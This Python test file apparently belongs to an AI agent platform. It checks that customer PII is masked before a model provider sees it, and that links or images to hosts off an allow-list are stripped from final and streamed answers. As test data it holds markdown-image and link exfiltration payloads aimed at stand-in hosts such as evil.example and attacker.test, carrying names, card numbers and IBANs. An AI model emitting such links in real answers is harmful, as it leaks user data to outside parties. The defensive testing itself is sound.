"""What a model provider sees, and what a final answer (and the text streamed before it) may link to."""

import itertools
import json
import random

import pytest
from pydantic_ai.messages import ModelRequest, ToolReturnPart, UserPromptPart
from pydantic_ai.models.function import DeltaToolCall, FunctionModel

from domains.ecm.models import Ticket, TicketEvent
from skills.executor import ResolvedModel
from skills.governance import StreamLinkFilter, answer_links_neutralise
from skills.models import Domain, RunStatus
from skills.services import skill_run_start
from tests.skills.conftest import context_for

PII_NOTE = (
    "Customer called from +971 50 123 4567 and sent card 4242 4242 4242 4242; "
    "refund to AE07 0331 2345 6789 0123 456, mail rahul.mehta@gmail.com, passport no K1234567"
)


def capturing_model(seen: list, answer: str = "done") -> FunctionModel:
    """Calls ticket_detail for 1042 once, then answers; keeps every message list it was sent."""

    async def stream(messages, info):
        seen.append(messages)
        if not any(isinstance(p, ToolReturnPart) for m in messages if isinstance(m, ModelRequest) for p in m.parts):
            yield {0: DeltaToolCall(name="ticket_detail", json_args=json.dumps({"ticket_number": 1042}))}
        else:
            yield answer

    return FunctionModel(stream_function=stream, model_name="capturing")


@pytest.fixture
def pii_ticket(demo):
    ticket = Ticket.objects.get(tenant__slug="aspora-remit", number=1042)
    TicketEvent.objects.create(ticket=ticket, action="note", detail=PII_NOTE)
    return ticket


def _use(monkeypatch, model):
    monkeypatch.setattr(
        "skills.executor.model_resolve", lambda version: ResolvedModel(model, "provider", offline=False)
    )


def _sent_text(seen) -> str:
    parts = [p for messages in seen for m in messages if isinstance(m, ModelRequest) for p in m.parts]
    contents = [p.content for p in parts if isinstance(p, (UserPromptPart, ToolReturnPart))]
    return json.dumps(contents, default=str, ensure_ascii=False)


def test_a_provider_sees_placeholders_never_the_pii_in_the_message_or_the_tool_results(pii_ticket, monkeypatch):
    seen: list = []
    _use(monkeypatch, capturing_model(seen))

    run = skill_run_start(
        context=context_for("sarah"),
        message="show ticket 1042, the customer's card is 5555 5555 5555 4444",
        skill_name="ticket-detail",
    )

    run.refresh_from_db()
    assert run.status == RunStatus.SUCCEEDED
    sent = _sent_text(seen)
    for original in (
        "+971 50 123 4567",
        "4242 4242 4242 4242",
        "5555 5555 5555 4444",
        "AE07 0331",
        "rahul.mehta@",
        "K1234567",
    ):
        assert original not in sent
    for placeholder in ("[PHONE •••• 4567]", "[CARD •••• 4242]", "[CARD •••• 4444]", "[IBAN AE •••• 3456]",
                        "[EMAIL r•••@gmail.com]", "[PASSPORT •••• 4567]"):  # fmt: skip
        assert placeholder in sent
    # The run's own record (inside its retention period) keeps what the tool returned.
    tool_result = run.events.get(type="run.tool_result").data
    assert "4242 4242 4242 4242" in json.dumps(tool_result, ensure_ascii=False)
    # And what is stored as the model's history is what the provider saw.
    assert "4242 4242 4242 4242" not in json.dumps(run.message_history, ensure_ascii=False)


def test_a_domain_that_narrows_redaction_sends_the_other_kinds_as_they_are(pii_ticket, monkeypatch):
    ecm = Domain.objects.get(name="ecm")
    ecm.config = {**ecm.config, "governance": {"redact": ["card"], "transcript_retention_days": 30}}
    ecm.save()
    seen: list = []
    _use(monkeypatch, capturing_model(seen))
    from skills import executor

    executor._agents.clear()  # agents are built once per version per process

    skill_run_start(context=context_for("sarah"), message="show ticket 1042", skill_name="ticket-detail")

    sent = _sent_text(seen)
    assert "[CARD •••• 4242]" in sent and "4242 4242 4242 4242" not in sent
    assert "rahul.mehta@gmail.com" in sent
    executor._agents.clear()


def test_the_offline_model_runs_here_and_quotes_the_tool_exactly(pii_ticket):
    run = skill_run_start(context=context_for("sarah"), message="show ticket 1042", skill_name="ticket-detail")

    run.refresh_from_db()
    assert run.is_offline and "4242 4242 4242 4242" in run.answer


def test_a_final_answer_cannot_link_or_embed_an_image_off_the_allow_list(pii_ticket, monkeypatch):
    evil = (
        "Here you go ![status](https://evil.example/collect?d=Rahul%20Mehta) and [the portal](/ecm/tickets/1042/) "
        "and [proof](http://attacker.test/x?card=4242) or https://exfil.example.net/p?q=secret "
        "and [ok](http://localhost/ecm/) <img src=https://evil.example/i.png>"
    )
    seen: list = []
    _use(monkeypatch, capturing_model(seen, answer=evil))

    run = skill_run_start(context=context_for("sarah"), message="show ticket 1042", skill_name="ticket-detail")

    run.refresh_from_db()
    final = run.events.get(type="run.final").data
    assert run.answer == (
        "Here you go [image removed: evil.example] and [the portal](/ecm/tickets/1042/) "
        "and proof (link removed: attacker.test) or (link removed: exfil.example.net) "
        "and [ok](http://localhost/ecm/) (html removed)"
    )
    assert "evil.example/" not in final["answer_html"] and "<img" not in final["answer_html"]
    assert 'href="/ecm/tickets/1042/"' in final["answer_html"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![x](//evil.example/a.png)", "[image removed: evil.example]"),
        ("[x](javascript:void)", "x (link removed: a non-web link)"),
        ("[m](mailto:ceo@evil.example)", "m (link removed: a non-web link)"),
        ("see www.example.com and #1042", "see www.example.com and #1042"),  # no scheme: not a link
        ("[a](https://sub.aspora.example/p)", "[a](https://sub.aspora.example/p)"),
    ],
)
def test_link_filter_cases(text, expected):
    assert answer_links_neutralise(text, {"aspora.example"}) == expected


EXFIL_CHUNKS = [
    "Ticket 1042 is open. ",
    "![x](https://evil.example/c?d=",
    "IBAN%20GB82WEST12345698765432)",
    " Anything else?",
]


def test_a_link_streamed_in_pieces_is_never_stored_or_broadcast(pii_ticket, monkeypatch):
    """The image URL arrives split over two deltas: neither half goes out, and the streamed text
    joined is the final answer."""

    async def stream(messages, info):
        if not any(isinstance(p, ToolReturnPart) for m in messages if isinstance(m, ModelRequest) for p in m.parts):
            yield {0: DeltaToolCall(name="ticket_detail", json_args=json.dumps({"ticket_number": 1042}))}
        else:
            for chunk in EXFIL_CHUNKS:
                yield chunk

    _use(monkeypatch, FunctionModel(stream_function=stream, model_name="scripted"))
    monkeypatch.setattr("skills.executor.DELTA_FLUSH_SECONDS", 0)  # every piece its own event
    broadcasts = []  # every event sent to listeners

    def sent_to_listeners(*, group, event_type, payload):
        broadcasts.extend({"event_type": event["event"], "payload": event} for event in payload["events"])

    monkeypatch.setattr("skills.services.broadcast", sent_to_listeners)

    run = skill_run_start(context=context_for("sarah"), message="show ticket 1042", skill_name="ticket-detail")

    run.refresh_from_db()
    assert run.answer == "Ticket 1042 is open. [image removed: evil.example] Anything else?"
    deltas = [e.data["text"] for e in run.events.filter(type="run.delta").order_by("seq")]
    # The last word waits for the end of the stream: it could have been the start of a URL.
    assert deltas == ["Ticket 1042 is open. ", "[image removed: evil.example] Anything ", "else?"]
    stored = json.dumps([e.data for e in run.events.all()])
    sent = json.dumps(broadcasts)
    for leak in ("evil.example/", "https://evil", "?d=", "GB82WEST"):
        assert leak not in stored and leak not in sent
    assert [b["payload"]["data"]["text"] for b in broadcasts if b["event_type"] == "run.delta"] == deltas


LINKY = (
    'Hi ![s](https://evil.example/c?d=a%20b) see [the report](https://evil.example/r "a title") and '
    '[ok](/ecm/tickets/1/) or http://evil.example/?q=1, <img src="https://evil.example/x" alt="a b"> '
    "then [a](<https://evil.example/a>) and //evil.example/p and [x](https://aspora.example/ok) array[0 end"
)


def test_the_stream_filter_shows_whole_urls_only_and_joins_to_the_filtered_answer():
    allowed = {"aspora.example"}
    whole = answer_links_neutralise(LINKY, allowed)
    splits = [[i] for i in range(1, len(LINKY))]  # every two-piece split ...
    rng = random.Random(7)
    splits += [sorted(rng.sample(range(1, len(LINKY)), k)) for k in (3, 8, 30, 80) for _ in range(50)]  # ... and more
    for cuts in splits:
        stream = StreamLinkFilter(allowed)
        bounds = [0, *cuts, len(LINKY)]
        shown = [stream.feed(LINKY[a:b]) for a, b in itertools.pairwise(bounds)] + [stream.end()]

        assert "".join(shown) == whole, cuts
        assert not any("evil.example/" in piece or "evil.example/c" in piece for piece in shown), cuts


def test_the_stream_filter_holds_a_partial_url_until_it_is_whole():
    stream = StreamLinkFilter({"aspora.example"})

    assert stream.feed("See ![x](https://evil.example/c?d=") == "See "
    assert stream.feed("GB82WEST12345698765432") == ""
    assert stream.feed(") done ") == "[image removed: evil.example] done "
    assert stream.feed("https://evil.example/tail") == ""
    assert stream.end() == "(link removed: evil.example)"
